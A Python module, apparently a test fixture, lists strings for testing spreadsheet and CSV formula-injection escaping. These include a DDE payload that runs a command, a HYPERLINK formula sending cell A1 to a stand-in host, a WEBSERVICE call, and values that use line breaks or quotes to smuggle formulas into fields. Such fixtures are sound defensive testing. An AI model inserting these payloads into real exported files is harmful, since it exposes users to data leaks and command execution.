"""What somebody would write in a cell to make a spreadsheet run it, or to break a line of the file."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = (
    "=1+1",
    '=HYPERLINK("https://ailleurs.example/"&A1;"Lire")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://ailleurs.example/")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "|cmd",
    "%1",
    "'=1+1",
    '"=1+1"',
    'Camille";=1+1;"',
    "Camille\r\n=1+1;=2+2",
    "Camille\n=1+1",
    'a"b',
    "a;b,c\td",
    "Élodie Le Goff‑Noël",
    "1234567890123456789",
    "01/02/2027",
    "1E5",
    "VRAI",
)
